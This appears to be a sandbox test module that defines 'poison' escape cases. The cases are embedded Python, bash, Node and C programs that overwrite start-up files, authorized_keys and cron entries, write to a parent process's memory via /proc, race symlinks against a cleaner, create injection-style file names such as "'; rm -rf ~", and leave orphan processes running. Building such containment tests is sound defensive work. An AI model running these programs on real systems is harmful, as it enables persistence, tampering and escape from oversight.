"""Programs that leave something for the next program, for the harness, or for whoever cleans up."""

# ruff: noqa: E501 (programs in other languages keep their own lines)
from __future__ import annotations

from rewards.sandbox.escapes.case import ENDED, Case, Category

_PYTHON = r"""
import builtins, json
builtins.print = lambda *a, **k: None
builtins.open = None
json.dumps = lambda *a, **k: "evil"
sys.modules["math"] = sys.modules["json"]
sys.path.insert(0, "/tmp")
home = os.path.expanduser("~")
for path in ["sitecustomize.py", "usercustomize.py", home + "/.pythonrc.py", home + "/.local/lib/python3.11/site-packages/evil.pth",
             "json.py", "math.py", "random.py", "main.py", "rewards.py", "/dev/shm/poison", "/tmp/poison"]:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with os.fdopen(os.open(path, os.O_CREAT | os.O_WRONLY, 0o777), "w") as file:
            file.write("print('evil')\nraise SystemExit(66)\n")
    except OSError as error:
        sys.stdout.write("refused %s %s\n" % (path, error))
for value in (json.__dict__, os.__dict__, sys.__dict__):
    value["evil"] = "evil"
os.environ["PYTHONSTARTUP"] = os.environ["LD_PRELOAD"] = "/tmp/evil.so"
os.umask(0o777)
sys.setrecursionlimit(9)
sys.stdout.write("tried\n")
sys.stdout.flush()
os._exit(0)
"""
_LAUNCHER = r"""
# The launcher's memory, by way of every process that could be it.
for pid in range(1, 6):
    for mode in (os.O_RDWR, os.O_WRONLY):
        def write():
            if pid == os.getpid() or pid not in (1, os.getppid()):
                raise OSError("not another process")
            fd = os.open("/proc/%d/mem" % pid, mode)
            with open("/proc/%d/maps" % pid) as maps:
                for line in maps:
                    if " rw-p " in line:
                        os.pwrite(fd, b"\xcc" * 64, int(line.split("-")[0], 16))
            return pid
        attempt("write to the memory of %d" % pid, write)
for name in ("exe", "fd/0", "fd/1", "fd/3", "fd/4", "fd/5", "fd/6", "cwd", "root/tmp/x"):
    attempt("through /proc of the parent " + name, lambda: os.open("/proc/%d/%s" % (os.getppid(), name), os.O_RDWR))
attempt("write own executable", lambda: os.open("/proc/self/exe", os.O_RDWR))
attempt("replace the interpreter", lambda: os.rename("mine", os.path.realpath("/proc/self/exe")))
tried()
"""
_BASH = r"""
for file in ~/.bashrc ~/.profile ~/.bash_profile ~/.bash_logout ~/.ssh/authorized_keys /etc/profile.d/evil.sh /tmp/bash \
            ~/.config/autostart/evil.desktop /etc/cron.d/evil /var/spool/at/evil /tmp/.X0-lock; do
    mkdir -p "$(dirname $file)" 2> /dev/null && echo 'echo evil; exit 66' > $file
done 2> /dev/null
printf '#!/bin/sh\necho evil\n' > ls; chmod 755 ls
alias ls=false; export PATH=/tmp:$PATH BASH_ENV=/tmp/.bashrc ENV=/tmp/.bashrc
command -v crontab > /dev/null && attempt "crontab" eval 'echo "* * * * * true" | crontab -'
command -v at > /dev/null && attempt "at" eval 'echo true | at now'
command -v systemd-run > /dev/null && attempt "systemd-run" systemd-run --user true
command -v loginctl > /dev/null && attempt "linger" loginctl enable-linger
echo tried
echo 'echo evil' > main.sh; exit 0
"""
_NODE = r"""
const fs = require("fs");
for (const name of ["node_modules/fs", "node_modules/net"]) { fs.mkdirSync(name, { recursive: true }); fs.writeFileSync(name + "/index.js", "console.log('evil')"); }
fs.writeFileSync("package.json", '{"type": "module"}');
fs.writeFileSync("main.js", "console.log('evil')");
fs.writeFileSync(".npmrc", "script-shell=/tmp/evil");
Object.prototype.evil = "evil"; Array.prototype.push = null;
console.log("tried");
"""
_LINKS = r"""
folder = os.path.dirname("@OPEN_FILE@")
for name, target in (("a", "@OPEN_FOLDER@"), ("b", "@SECRET_FILE@"), ("c", "/"), ("d", "d"), ("e", "../" * 30 + "@OPEN_FOLDER@"),
                     ("main.py", "@OPEN_FILE@"), ("f" * 255, folder)):
    if os.path.lexists(name):
        os.unlink(name)
    os.symlink(target, name)
os.mkdir("swap")
if os.fork() == 0:
    # A cleaner that looks first and opens then: what it saw as a folder is a link by then.
    os.setsid()
    while True:
        try:
            os.rename("swap", "swap.d")
            os.symlink("@OPEN_FOLDER@", "swap")
            os.unlink("swap")
            os.rename("swap.d", "swap")
        except OSError:
            pass
time.sleep(0.1)
tried()
os._exit(0)
"""
_DEEP = r"""
int main(void) {
    for (int i = 0; i < 5000; i++) if (mkdir("d", 0700) || chdir("d")) break;
    tried();
}
"""
_NAMES = r"""
import socket
for name in (b"-rf", b"--", b"a\nb", b"\xff\xfe", b"\x1b[2J", b" ", b"'; rm -rf ~", b"$(id)", b"*", b"\\", b"x" * 255, "\u202e".encode()):
    with open(name, "w"):
        pass
def close(path, mode):
    try:
        os.chmod(path, mode)
    except OSError:  # a tier that refuses it by name
        os.fchmod(os.open(path, os.O_RDONLY), mode)
os.mkdir("closed"); open("closed/inside", "w").close()
os.mkdir("closed/more"); close("closed/more", 0); close("closed", 0)
os.mkdir("sticky"); close("sticky", 0o1777)
os.mkfifo("fifo"); os.mkfifo("main.py.fifo")
try:
    with socket.socket(socket.AF_UNIX) as channel:
        channel.bind("sock")
except OSError as error:
    print("refused", error)
close(".", 0)
print("tried", flush=True)
"""
_OPEN_AT_END = r"""
# A file, a mapping and a lock that are held by an orphan when the work directory goes.
import fcntl, mmap
if os.fork() == 0:
    os.setsid()
    with open("held", "w+b") as file:
        file.truncate(1 << 20)
        fcntl.flock(file, fcntl.LOCK_EX)
        mapped = mmap.mmap(file.fileno(), 0)
        os.chdir("/dev/shm") if os.path.isdir("/dev/shm") else None
        while True:
            mapped[:4] = b"held"
time.sleep(0.05)
tried()
os._exit(0)
"""
POISON = Category(
    "poison",
    (
        Case("modules, builtins, start-up files", "python", _PYTHON, danger="host"),
        Case("the launcher's memory", "python", _LAUNCHER, danger="host"),
        Case("shell: profiles, commands, cron", "bash", _BASH, danger="host"),
        Case("node: modules and prototypes", "javascript", _NODE),
        Case("links for a cleaner to follow", "python", _LINKS, ENDED),
        Case("c: 5,000 folders deep", "c", _DEEP, ENDED, tries=False),
        Case("hostile names and closed folders", "python", _NAMES, ENDED),
        Case("held open at the end", "python", _OPEN_AT_END, ENDED),
    ),
)
